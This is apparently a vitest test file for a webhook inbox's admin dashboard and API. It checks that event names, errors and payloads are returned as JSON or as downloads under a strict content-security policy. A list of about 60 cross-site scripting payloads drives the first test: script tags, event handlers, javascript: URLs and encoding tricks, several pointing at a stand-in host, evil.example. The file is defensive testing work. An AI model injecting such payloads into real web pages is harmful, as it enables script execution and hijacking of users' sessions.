/** The files of the dashboard, and the API behind it: whatever an event is called, it is data and never markup. */

import { readdirSync, readFileSync } from 'node:fs'
import { request } from 'node:http'
import { createInbox, type Inbox, silentLog } from 'hookonce'
import { unverified } from 'hookonce/providers'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { wholeInbox } from '#dist/inbox/internals.js'
import { type RunningAdmin, startAdmin } from './support.js'

const cores = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '</td></tr></table><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action=//evil.example><button>x',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{background:url(//evil.example)}</style>',
  '<object data=//evil.example>',
  '<embed src=//evil.example>',
  '<math><mi xlink:href="javascript:alert(1)">x',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext>',
  '<marquee onstart=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<keygen onfocus=alert(1) autofocus>',
  '<isindex action=javascript:alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&quot;&gt;&lt;img src=x&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack, not a template
  '${alert(1)}',
  '`-alert(1)-`',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '"autofocus onfocus=alert(1) x="',
  '<div style="x:expression(alert(1))">',
  '<a\u00a0onclick=alert(1)>x',
  '<<script>alert(1)//<</script>',
  '<script\u2028>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
  '<scr\u00adipt>alert(1)</scr\u00adipt>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'data:text/html,<script>alert(1)</script>',
]

let inbox: Inbox
let running: RunningAdmin
beforeAll(() => {
  inbox = createInbox({
    store: 'sqlite::memory:',
    sources: { shop: unverified({ id: 'json:id' }) },
    log: silentLog,
  })
})
afterAll(() => inbox.stop())
afterEach(() => running.stop())

/** Recorded straight into the log: another program may name its sources as it likes. */
async function record(names: readonly string[]): Promise<void> {
  const store = await wholeInbox(inbox).store()
  await store.record(
    names.map((name, i) => ({
      source: name.slice(0, 60).toWellFormed(),
      headers: {},
      body: Buffer.from(name),
      contentGuard: 'review' as const,
      events: [{ id: `${name} ${i}`, type: name, reference: name, contentHash: null, guardHash: null }],
    })),
  )
}

test('60 strings that would be code come back from the API as they are, as JSON and as nothing else', async () => {
  expect(cores.length).toBeGreaterThanOrEqual(50)
  running = await startAdmin(inbox)
  await record(cores)
  for (const [i, name] of cores.entries()) {
    const source = encodeURIComponent(name.slice(0, 60).toWellFormed())
    const id = `${name} ${i}`
    const response = await running.call('GET', `/api/events/${source}/${encodeURIComponent(id)}`)
    expect(response.headers.get('content-type')).toBe('application/json')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(await response.json()).toMatchObject({ id, type: name, reference: name })
    const payload = await running.call('GET', `/api/events/${source}/${encodeURIComponent(id)}/payload`)
    expect(payload.headers.get('content-type')).toBe('application/octet-stream')
    expect(payload.headers.get('content-disposition')).toBe('attachment; filename="payload.bin"')
    expect(payload.headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(await payload.text()).toBe(name)
  }
})

test('an error that quotes markup is text too', async () => {
  running = await startAdmin(inbox)
  const store = await wholeInbox(inbox).store()
  const [claimed] = await store.claim({ worker: '<b>w</b>', limit: 1, leaseMs: 60_000 })
  const error = '<img src=x onerror=alert(1)>'
  await store.settle([
    { lease: claimed!.lease, outcome: { kind: 'failed', error, retryInMs: null }, durationMs: 1 },
  ])
  const path = `/api/events/${encodeURIComponent(claimed!.source)}/${encodeURIComponent(claimed!.id)}`
  expect(await running.json('GET', path)).toMatchObject({ reason: error, dead: true })
  expect(await running.json('GET', `${path}/attempts`)).toMatchObject({
    attempts: [{ worker: '<b>w</b>', detail: error }],
  })
})

/** The addresses of files in the page, as a browser resolves them. */
async function filesOf(path: string): Promise<string[]> {
  const html = await (await running.call('GET', path, { role: null })).text()
  const page = `${running.url}${path.startsWith('/') ? `/admin${path}` : '/admin'}`
  return [...html.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, file]) => new URL(file!, page).pathname)
}

test('the page is the same on every screen, below any path, and names files that exist', async () => {
  running = await startAdmin(inbox, { basePath: '/admin' })
  const screens = ['', '/', '/events', '/events/shop/a%2Fb', '/dead-letters', '/sources', '/system']
  for (const screen of screens) {
    const response = await running.call('GET', screen, { role: null })
    const headers = ['content-type', 'cache-control'].map((name) => response.headers.get(name))
    expect([screen, response.status, ...headers]).toEqual([
      screen,
      200,
      'text/html; charset=utf-8',
      'no-cache',
    ])
    const files = await filesOf(screen)
    expect(files.some((file) => /^\/admin\/assets\/index-[\w-]+\.js$/.test(file))).toBe(true)
    expect(files.every((file) => file.startsWith('/admin/assets/'))).toBe(true)
  }
  for (const file of await filesOf('/')) {
    const { status, headers } = await running.call('GET', file.slice('/admin'.length), { role: null })
    expect([status, headers.get('cache-control')]).toEqual([200, 'public, max-age=31536000, immutable'])
    expect(headers.get('content-type')).toMatch(/^(text\/(javascript|css); charset=utf-8|image\/svg\+xml)$/)
  }
  expect((await running.call('GET', '/elsewhere', { role: null })).status).toBe(404)
  expect((await running.call('GET', '/assets/none.js', { role: null })).status).toBe(404)
})

test('files are sent compressed to browsers that accept it, and the same bytes to others', async () => {
  running = await startAdmin(inbox, { basePath: '/admin' })
  const script = (await filesOf('/')).find((file) => file.endsWith('.js'))!
  const get = (encoding: string) =>
    new Promise<{ encoding: string | undefined; bytes: number }>((resolve, reject) => {
      const headers = { 'accept-encoding': encoding }
      request(`${running.url}${script}`, { headers }, (response) => {
        let bytes = 0
        response.on('data', (chunk: Buffer) => (bytes += chunk.length))
        response.on('end', () => resolve({ encoding: response.headers['content-encoding'], bytes }))
      })
        .on('error', reject)
        .end()
    })
  const [packed, plain, refused] = [await get('gzip, br'), await get('identity'), await get('gzip;q=0')]
  expect([packed.encoding, plain.encoding, refused.encoding]).toEqual(['gzip', undefined, undefined])
  expect(packed.bytes).toBeLessThan(plain.bytes / 2)
  expect(refused.bytes).toBe(plain.bytes)
  // The first view, whichever screen it is: its script, and what that imports before it runs.
  expect(packed.bytes).toBeLessThan(200_000)
})

test('the page has no script and no style of its own, so that the policy can refuse them', async () => {
  running = await startAdmin(inbox)
  const response = await running.call('GET', '/', { role: null })
  const html = await response.text()
  expect(html).not.toMatch(/<style|\sstyle=|\son\w+=|<script(?![^>]*\ssrc=)|https?:/)
  const policy = response.headers.get('content-security-policy')!
  expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'")
  expect(policy).not.toContain('unsafe')
  const sources = readdirSync('dashboard/src', { recursive: true, encoding: 'utf8' })
  for (const file of sources.filter((name) => /\.tsx?$/.test(name))) {
    const code = readFileSync(`dashboard/src/${file}`, 'utf8')
    expect([file, code.match(/dangerouslySetInnerHTML|innerHTML|insertAdjacentHTML|\beval\(/)]).toEqual([
      file,
      null,
    ])
  }
})

test('the page says whether a token or the application signs people in', async () => {
  running = await startAdmin(inbox)
  expect(await (await running.call('GET', '/', { role: null })).text()).toContain('data-sign-in="token"')
  await running.stop()
  running = await startAdmin(inbox, { tokens: [], authorize: () => null })
  expect(await (await running.call('GET', '/', { role: null })).text()).toContain(
    'data-sign-in="application"',
  )
})
